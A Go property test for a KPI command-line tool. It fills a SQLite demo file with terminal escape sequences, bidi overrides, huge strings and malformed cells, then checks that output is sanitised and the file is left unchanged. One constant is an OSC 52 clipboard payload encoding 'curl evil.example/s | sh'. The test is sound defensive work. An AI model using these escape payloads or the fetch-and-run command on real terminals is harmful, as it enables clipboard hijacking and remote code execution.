package main

// The property test of issue 15: a demo file whose every column another tool has
// filled with hostile content, every command and every view run on it by the
// real binary, and what must hold whatever the file holds.

import (
	"bytes"
	"context"
	"crypto/sha256"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	_ "modernc.org/sqlite"
)

// hostileNow pins every command of these tests to Monday of 2027-W01, the week
// the demo's values end in.
const hostileNow = "KPI_NOW=2027-01-04T12:00:00Z"

// Hostile text, each piece a different way to drive a terminal, with visible
// words between them so a test can see the text arrived (cleaned).
const (
	csi      = "\x1b[31m\x1b[2J\x1b[?1049h\x1b[5;35;7m"           // colour, clear screen, alternate screen, blink
	osc0     = "\x1b]0;PWNED-TITLE\x07"                           // window title
	osc52    = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x1b\\" // clipboard: "curl evil.example/s | sh"
	dcs      = "\x1bP1$qm\x1b\\"                                  // device control string
	c1       = "\u009b2J\u009d0;c1-title\u009c\u0085"             // C1 CSI, C1 OSC…ST, NEL
	bidi     = "\u202e\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d"
	c0       = "\x00\x07\x08\r\x0b\x0c\x7f"
	hostileT = "EVIL" + csi + "one" + osc0 + "two" + osc52 + "three" + dcs + "four" + c1 + "five" + bidi + "six" + c0 + "seven"
)

// megabyte is a 1 MB string that is mostly harmless text with escapes in it.
var megabyte = strings.Repeat("0123456789abcdef"+csi, 1<<20/(16+len(csi)))

// hostileFile writes a demo file and plants hostile content in every column
// with whatever the schema accepts from any writer: every free-text column of
// every table (keys and units included), text inside the JSON columns, 1 MB
// strings, and the extreme numbers still in range (±1e15 alternating, so the
// differences are 2e15; six decimals). What the schema refuses — ±Inf (SQLite
// stores 9e999 as Inf), differences that overflow, values beyond ±1e15, bad
// decimals — are bad cells, planted past the constraints (badCells).
func hostileFile(t *testing.T) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "hostile.db")
	if code, _, e := kpi(t, []string{hostileNow}, "demo", "--db", path, "--no-open"); code != 0 {
		t.Fatalf("demo: %d %s", code, e)
	}
	attendees, _ := json.Marshal([]string{hostileT, "eve" + osc52})
	template, _ := json.Marshal([]map[string]any{{"text": hostileT, "timebox_minutes": 5}})
	plant(t, path, false, []string{
		// text: every free-text column of every table, some rows 1 MB
		`UPDATE kpis SET name = name || ?1, owner = owner || ?1, description = ?1`,
		// a few keys only, so --kpi still finds the others by their keys
		`UPDATE kpis SET key = key || ?1 WHERE id IN (1, 13, 17)`,
		`UPDATE kpis SET description = ?1 || ?2 WHERE id = 1`,
		`UPDATE kpis SET unit = ?3 || unit || ?4`,
		`UPDATE kpis SET name = name || ?2 WHERE id = 13`,
		`UPDATE kpis SET formula = formula || ?1 WHERE id = 6`,
		`UPDATE kpis SET updated_by = ?1`,
		`UPDATE objectives SET title = title || ?1, description = ?1, owner = ?1, updated_by = ?1`,
		`UPDATE objectives SET description = ?2 WHERE id = 1`,
		`UPDATE kpi_values SET note = ?1, override_reason = ?1, entered_by = ?1, updated_by = ?1 WHERE week >= '2026-W45'`,
		`UPDATE kpi_values SET note = ?2 WHERE week = '2027-W01' AND kpi_id = 1`,
		`UPDATE reviews SET facilitator = ?1, notes = ?1, updated_by = ?1, attendees = ?5`,
		`UPDATE reviews SET notes = ?1 || ?2 WHERE week = '2026-W51'`,
		`UPDATE checklist_items SET text = ?1, note = ?1, done_by = ?1, updated_by = ?1`,
		`UPDATE action_items SET text = ?1, owner = ?1, done_by = ?1, updated_by = ?1`,
		`UPDATE action_items SET text = ?2 WHERE id = 1`,
		`UPDATE settings SET team_name = ?1, checklist_template = ?6, updated_by = ?1`,
		`INSERT INTO sessions (user, host, pid, started_at, heartbeat) VALUES (?1, ?1, 4242, '2027-01-04T11:59:00Z', '2027-01-04T11:59:30Z')`,
		`INSERT INTO change_log (at, user, host, entity, entity_id, kpi_id, action, summary, old, new)
		 VALUES ('2027-01-04T11:00:00Z', ?1, ?1, 'value', 1, 1, 'update', ?1, ?1, ?2)`,
		// numbers at the limits the schema allows
		`UPDATE kpi_values SET number = CASE WHEN CAST(substr(week, 7, 2) AS INTEGER) % 2 = 0 THEN 1e15 ELSE -1e15 END WHERE kpi_id = 3 AND week >= '2026-W40'`,
		`UPDATE kpis SET decimals = 6 WHERE id = 9`,
	}, hostileT, megabyte, "\x1b[31m", osc0+bidi, string(attendees), string(template))
	return path
}

// plant runs statements on the file the way a tool that knows nothing of kpi
// would: no foreign keys, and kpi's triggers dropped for the time (and put
// back). With bypassChecks the CHECK constraints are ignored too, as any tool
// can ask (PRAGMA ignore_check_constraints), so whatever the schema of the day
// refuses still gets in. args are bound as ?1, ?2… in every statement.
func plant(t *testing.T, path string, bypassChecks bool, stmts []string, args ...any) {
	t.Helper()
	db, err := sql.Open("sqlite", "file:"+path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	db.SetMaxOpenConns(1)
	ctx := context.Background()
	conn, err := db.Conn(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	triggers := map[string]string{}
	rows, err := conn.QueryContext(ctx, `SELECT name, sql FROM sqlite_master WHERE type = 'trigger'`)
	if err != nil {
		t.Fatal(err)
	}
	for rows.Next() {
		var name, def string
		if err := rows.Scan(&name, &def); err != nil {
			t.Fatal(err)
		}
		triggers[name] = def
	}
	rows.Close()
	exec := func(q string, a ...any) {
		t.Helper()
		if _, err := conn.ExecContext(ctx, q, a...); err != nil {
			t.Fatalf("planting %.80q: %v", q, err)
		}
	}
	if bypassChecks {
		exec(`PRAGMA ignore_check_constraints = 1`)
	}
	exec(`PRAGMA foreign_keys = 0`)
	exec(`BEGIN`)
	for name := range triggers {
		exec(`DROP TRIGGER "` + name + `"`)
	}
	for _, q := range stmts {
		n := 0 // a statement is given the arguments up to the highest ?N it uses
		for i := range args {
			if strings.Contains(q, fmt.Sprintf("?%d", i+1)) {
				n = i + 1
			}
		}
		exec(q, args[:n]...)
	}
	for _, def := range triggers {
		exec(def)
	}
	exec(`COMMIT`)
}

// badCell is one planted case the store must read as a bad cell (a number out
// of range, a wrong type, a malformed week or JSON, an orphan…): each must affect
// that cell only, and `kpi doctor` must name it with its table.
type badCell struct {
	name  string
	table string // what doctor's finding names
	stmts []string
}

// badCells are the cases of issue 15 §3 and "also seen", one statement list each.
var badCells = []badCell{
	{"value is +Inf", "kpi_values", []string{`UPDATE kpi_values SET number = 9e999 WHERE kpi_id = 2 AND week = '2027-W01'`}},
	{"values whose difference overflows", "kpi_values", []string{
		`UPDATE kpi_values SET number = 1.7e308 WHERE kpi_id = 3 AND week = '2026-W51'`,
		`UPDATE kpi_values SET number = -1.7e308 WHERE kpi_id = 3 AND week = '2026-W52'`}},
	{"value beyond 1e15", "kpi_values", []string{`UPDATE kpi_values SET number = -2e15 WHERE kpi_id = 4 AND week = '2027-W01'`}},
	{"number is text", "kpi_values", []string{`UPDATE kpi_values SET number = 'abc' WHERE kpi_id = 2 AND week = '2026-W52'`}},
	{"number is a blob", "kpi_values", []string{`UPDATE kpi_values SET number = x'1b5b326a' WHERE kpi_id = 2 AND week = '2026-W51'`}},
	{"negative decimals", "kpis", []string{`UPDATE kpis SET decimals = -3 WHERE id = 3`}},
	{"decimals is text", "kpis", []string{`UPDATE kpis SET decimals = 'two' WHERE id = 2`}},
	{"tolerance is -Inf", "kpis", []string{`UPDATE kpis SET tolerance_amount = -9e999 WHERE id = 7`}},
	{"target is +Inf", "kpi_targets", []string{`UPDATE kpi_targets SET value = 9e999 WHERE kpi_id = 8`}},
	{"target value is text", "kpi_targets", []string{`UPDATE kpi_targets SET value = 'lots' WHERE kpi_id = 3`}},
	{"target week zzz", "kpi_targets", []string{`INSERT INTO kpi_targets (kpi_id, week, value) VALUES (2, 'zzz', 5)`}},
	{"checklist template is a JSON object", "settings", []string{`UPDATE settings SET checklist_template = '{"text":"x"}'`}},
	{"checklist template is not JSON", "settings", []string{`UPDATE settings SET checklist_template = '[{"text":'`}},
	{"attendees are not JSON", "reviews", []string{`UPDATE reviews SET attendees = '{"a":' WHERE id = 3`}},
	{"value weeks that only look alike", "kpi_values", []string{
		`INSERT INTO kpi_values (kpi_id, week, number) VALUES (1, '2026-w49', 1), (1, '2026-W49 ', 2)`}},
	{"value week is garbage", "kpi_values", []string{`UPDATE kpi_values SET week = '` + "\x1b[2J" + `' WHERE kpi_id = 8 AND week = '2026-W40'`}},
	{"review week is garbage", "reviews", []string{`UPDATE reviews SET week = '2026-W4x' WHERE id = 2`}},
	{"direction unknown", "kpis", []string{`UPDATE kpis SET direction = 'sideways' WHERE id = 4`}},
	{"status unknown", "kpi_values", []string{`UPDATE kpi_values SET status = 'great' WHERE kpi_id = 14 AND week = '2027-W01'`}},
	{"time is garbage", "kpi_values", []string{`UPDATE kpi_values SET entered_at = 'yesterday', updated_at = 'soon' WHERE kpi_id = 1 AND week = '2027-W01'`}},
	{"version is text", "kpis", []string{`UPDATE kpis SET version = 'v2' WHERE id = 5`}},
	{"orphan value", "kpi_values", []string{`INSERT INTO kpi_values (kpi_id, week, number) VALUES (99999, '2027-W01', 1)`}},
	{"orphan action item", "action_items", []string{`UPDATE action_items SET kpi_id = 99999 WHERE id = 2`}},
	{"orphan review KPI", "review_kpis", []string{`INSERT INTO review_kpis (review_id, kpi_id) VALUES (1, 99999)`}},
	{"formula cycle", "kpis", []string{`UPDATE kpis SET formula = 'gross_margin + 1' WHERE id = 15`, `UPDATE kpis SET formula = 'cac + 1' WHERE id = 16`}},
	{"session heartbeat in the future", "sessions", []string{
		`INSERT INTO sessions (user, host, pid, started_at, heartbeat) VALUES ('eve', 'h', 1, '2027-01-04T00:00:00Z', '2099-01-01T00:00:00Z')`}},
	{"unknown default theme", "settings", []string{`UPDATE settings SET default_theme = 'nope` + "\x1b[2J" + `'`}},
}

// run is one command line of the matrix and what it may exit with.
type run struct {
	args  []string
	codes []int
	// color: the output is styled by kpi, so SGR sequences are allowed
	color bool
	// check parses what a command printed for scripts (JSON, CSV)
	check func(stdout string) error
}

// readCommands are every command that only reads, with every view at 80×24 and
// 120×40, plain and in colour; the file must be byte-identical after each.
func readCommands(path, scratch string) []run {
	db := []string{"--db", path}
	with := func(codes []int, args ...string) run { return run{args: append(args, db...), codes: codes} }
	ok := []int{0, 1}
	runs := []run{
		with(ok, "list"), with(ok, "list", "--archived"), with(ok, "list", "--week", "2026-W52"),
		{args: append([]string{"list", "--json"}, db...), codes: ok, check: validJSON},
		with(ok, "due"), with([]int{0, 1, 3}, "due", "--exit-code"), with(ok, "due", "--owner", "ana"),
		with(ok, "history"), with(ok, "history", "--kpi", "signups"), with(ok, "history", "--limit", "500"),
		{args: append([]string{"export"}, db...), codes: ok, check: validCSV},
		{args: append([]string{"export", "--format", "json"}, db...), codes: ok, check: validJSON},
		with(ok, "export", "--format", "json", "--out", filepath.Join(scratch, "export.json")),
		with(ok, "report"), with(ok, "report", "--week", "2026-W51"),
		with(ok, "report", "--out", filepath.Join(scratch, "report.md")),
		with(ok, "doctor"), with(ok, "backup", filepath.Join(scratch, "backup.db")), with(ok, "version"),
	}
	for _, size := range [][2]string{{"80", "24"}, {"120", "40"}} {
		for _, color := range []bool{false, true} {
			shot := func(extra ...string) run {
				args := append([]string{"snapshot", "--width", size[0], "--height", size[1]}, extra...)
				if color {
					args = append(args, "--color")
				}
				return run{args: append(args, db...), codes: ok, color: color}
			}
			for _, v := range []string{"dashboard", "objectives", "scorecard", "trends", "review", "walkthrough"} {
				runs = append(runs, shot("--view", v))
			}
			for _, k := range []string{"signups", "trial", "created", "won", "win_rate", "pipeline", "nps", "p95", "uptime", "churn"} {
				runs = append(runs, shot("--view", "trends", "--kpi", k))
			}
			runs = append(runs, shot("--view", "walkthrough", "--kpi", "trial"), shot("--view", "scorecard", "--week", "2026-W52"))
		}
	}
	return runs
}

// writeCommands change the file, so each runs on its own copy.
func writeCommands(path, scratch string) []run {
	ok := []int{0, 1}
	export := filepath.Join(scratch, "for-import.json")
	return []run{
		// an argument cannot hold NUL; everything else of the hostile text can
		{args: []string{"set", "signups", "5", "--force", "--week", "2027-W01", "--note", strings.ReplaceAll(hostileT, "\x00", "")}, codes: ok},
		{args: []string{"set", "mrr", "1,000", "--force", "--week", "2026-W51"}, codes: ok},
		{args: []string{"set", "security", "on track", "--week", "2027-W01"}, codes: ok},
		{args: []string{"import", export, "--dry-run"}, codes: ok},
		{args: []string{"import", export}, codes: ok},
		{args: []string{"doctor", "--repair"}, codes: ok},
	}
}

// TestHostileFileHurtsNoOne: on a file full of hostile text and numbers, every
// command and view prints nothing a terminal would act on but kpi's own colours,
// never panics, exits 0 or 1 (3 for `due --exit-code`) with one line on error,
// shows the file (the read commands succeed), and leaves the file byte for byte
// as it was.
func TestHostileFileHurtsNoOne(t *testing.T) {
	if testing.Short() {
		t.Skip("-short: skipping about 100 process launches")
	}
	path := hostileFile(t)
	runMatrix(t, path, true)
}

// TestBadCellsAffectThatCellOnly plants each bad cell on its own in a demo
// file. Whatever the store does with it, nothing may reach the terminal, panic
// or change the file; the rest of the file must still open and show, and
// `kpi doctor` must exit 1 naming the cell's table (issue 15 §3: the store's
// tolerant reads and doctor's findings). Then all of them at once, in a file
// with hostile text, through every command and view.
func TestBadCellsAffectThatCellOnly(t *testing.T) {
	if testing.Short() {
		t.Skip("-short: skipping the bad-cell cases")
	}
	clean := filepath.Join(t.TempDir(), "demo.db")
	if code, _, e := kpi(t, []string{hostileNow}, "demo", "--db", clean, "--no-open"); code != 0 {
		t.Fatalf("demo: %d %s", code, e)
	}
	for _, bc := range badCells {
		t.Run(bc.name, func(t *testing.T) {
			path := copyFile(t, clean)
			plant(t, path, true, bc.stmts)
			scratch := t.TempDir()
			for _, r := range []run{
				{args: []string{"list", "--db", path}, codes: []int{0}},
				{args: []string{"list", "--json", "--db", path}, codes: []int{0}, check: validJSON},
				{args: []string{"due", "--db", path}, codes: []int{0}},
				{args: []string{"report", "--db", path}, codes: []int{0}},
				{args: []string{"export", "--format", "json", "--db", path}, codes: []int{0}, check: validJSON},
				{args: []string{"snapshot", "--view", "dashboard", "--width", "80", "--height", "24", "--db", path}, codes: []int{0}},
				{args: []string{"snapshot", "--view", "review", "--width", "120", "--height", "40", "--color", "--db", path}, codes: []int{0}, color: true},
				{args: []string{"snapshot", "--view", "trends", "--kpi", "trial", "--width", "120", "--height", "40", "--db", path}, codes: []int{0}},
				{args: []string{"backup", filepath.Join(scratch, "b.db"), "--db", path}, codes: []int{0}},
			} {
				checkRun(t, path, r, true)
			}
			checkRun(t, path, run{args: []string{"doctor", "--db", path}, codes: []int{1}}, true)
			if _, out, _ := kpiWithin(t, 2*time.Minute, "doctor", "--db", path); !strings.Contains(out, bc.table) {
				t.Errorf("kpi doctor does not name the table %s:\n%s", bc.table, out)
			}
		})
	}
	t.Run("all at once", func(t *testing.T) {
		path := hostileFile(t)
		for _, bc := range badCells {
			plant(t, path, true, bc.stmts)
		}
		runMatrix(t, path, false)
	})
}

// runMatrix runs every read command and view on path and every write command
// on a copy of it. mustShow additionally requires the read commands to succeed
// and to show some of the planted text, cleaned.
func runMatrix(t *testing.T, path string, mustShow bool) {
	t.Helper()
	scratch := t.TempDir()
	for _, r := range readCommands(path, scratch) {
		if mustShow && r.args[0] != "doctor" && r.args[0] != "due" {
			r.codes = []int{0}
		}
		checkRun(t, path, r, true)
	}
	if code, out, _ := kpi(t, []string{hostileNow}, "export", "--format", "json", "--db", path); code == 0 {
		os.WriteFile(filepath.Join(scratch, "for-import.json"), []byte(out), 0o644)
	}
	for _, r := range writeCommands(path, scratch) {
		cp := copyFile(t, path)
		r.args = append(r.args, "--db", cp)
		checkRun(t, cp, r, false) // a write may change its copy
	}
	if mustShow {
		_, out, _ := kpi(t, []string{hostileNow}, "list", "--db", path)
		if !strings.Contains(out, "EVILonetwothreefourfivesixseven") {
			t.Errorf("kpi list does not show the planted text, cleaned:\n%.600s", out)
		}
	}
}

// checkRun runs one command and checks every property of issue 15 on what it
// printed; unchanged says the file must be byte-identical afterwards.
func checkRun(t *testing.T, path string, r run, unchanged bool) {
	t.Helper()
	name := strings.Join(shownArgs(r.args), " ")
	before := fileSum(t, path)
	code, stdout, stderr := kpiWithin(t, 2*time.Minute, r.args...)
	if !containsInt(r.codes, code) {
		t.Errorf("kpi %s: exit %d, want one of %v; stderr %.300q", name, code, r.codes, stderr)
	}
	for stream, text := range map[string]string{"stdout": stdout, "stderr": stderr} {
		if bad := terminalHazard(text, r.color && stream == "stdout"); bad != "" {
			t.Errorf("kpi %s: %s carries %s", name, stream, bad)
		}
		if strings.Contains(text, "goroutine ") || strings.Contains(text, "panic:") || strings.Contains(text, "Caught panic") {
			t.Errorf("kpi %s: %s shows a panic: %.400q", name, stream, text)
		}
	}
	if code != 0 && code != 3 && strings.Count(strings.TrimRight(stderr, "\n"), "\n") != 0 {
		t.Errorf("kpi %s: exit %d with more than one line of error: %.400q", name, code, stderr)
	}
	if code != 0 && code != 3 && !strings.HasPrefix(stderr, "kpi: ") {
		t.Errorf("kpi %s: exit %d, error not in the one-line style: %.200q", name, code, stderr)
	}
	if r.check != nil && code == 0 {
		if err := r.check(stdout); err != nil {
			t.Errorf("kpi %s: output for scripts is invalid: %v", name, err)
		}
	}
	if unchanged && fileSum(t, path) != before {
		t.Errorf("kpi %s changed the file", name)
	}
}

// kpiWithin runs the binary pinned to hostileNow; a command that hangs fails
// after limit instead of stopping the suite (a safety net, not a timing check).
func kpiWithin(t *testing.T, limit time.Duration, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	defer cancel()
	cmd := exec.CommandContext(ctx, kpiBin, args...)
	cmd.Env = []string{"HOME=" + t.TempDir(), "PATH=" + os.Getenv("PATH"), "KPI_USER=tester", hostileNow}
	var o, e bytes.Buffer
	cmd.Stdout, cmd.Stderr, cmd.Stdin = &o, &e, strings.NewReader("")
	err := cmd.Run()
	var ee *exec.ExitError
	switch {
	case ctx.Err() != nil:
		t.Errorf("kpi %s did not finish within %v", strings.Join(shownArgs(args), " "), limit)
	case errors.As(err, &ee):
		code = ee.ExitCode()
	case err != nil:
		t.Fatalf("running kpi: %v", err)
	}
	return code, o.String(), e.String()
}

// terminalHazard names the first thing in s a terminal would act on — an escape
// sequence (but for SGR when allowSGR), a C0 control other than \n and \t, DEL,
// a C1 control, a bidi override or isolate, invalid UTF-8 — or "".
func terminalHazard(s string, allowSGR bool) string {
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case c == 0x1b:
			if end := sgrAt(s, i); allowSGR && end > 0 {
				if strings.Contains(s[i:end], "5;35;7") {
					return fmt.Sprintf("the planted SGR %q", s[i:end])
				}
				i = end - 1
				continue
			}
			return fmt.Sprintf("an escape sequence %q at byte %d", s[i:min(len(s), i+16)], i)
		case (c < 0x20 && c != '\n' && c != '\t') || c == 0x7f:
			return fmt.Sprintf("control byte %#x at byte %d", c, i)
		}
	}
	if !utf8.ValidString(s) {
		return "invalid UTF-8"
	}
	for i, r := range s {
		if (r >= 0x80 && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) || r == 0x2028 || r == 0x2029 {
			return fmt.Sprintf("control character %U at byte %d", r, i)
		}
	}
	return ""
}

// sgrAt is the end of the SGR sequence (ESC [ digits ; : m) at i, or 0.
func sgrAt(s string, i int) int {
	if !strings.HasPrefix(s[i:], "\x1b[") {
		return 0
	}
	for j := i + 2; j < len(s); j++ {
		switch c := s[j]; {
		case c == 'm':
			return j + 1
		case c >= '0' && c <= '9', c == ';', c == ':':
		default:
			return 0
		}
	}
	return 0
}

func validJSON(s string) error {
	var v any
	return json.Unmarshal([]byte(s), &v)
}

func validCSV(s string) error {
	_, err := csv.NewReader(strings.NewReader(s)).ReadAll()
	return err
}

func containsInt(xs []int, x int) bool {
	for _, y := range xs {
		if y == x {
			return true
		}
	}
	return false
}

// shownArgs are args as a failure message can print them.
func shownArgs(args []string) []string {
	out := make([]string, len(args))
	for i, a := range args {
		out[i] = fmt.Sprintf("%.60q", a)
	}
	return out
}

func fileSum(t *testing.T, path string) [32]byte {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		t.Fatal(err)
	}
	var sum [32]byte
	copy(sum[:], h.Sum(nil))
	return sum
}

func copyFile(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	cp := filepath.Join(t.TempDir(), "copy.db")
	if err := os.WriteFile(cp, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return cp
}
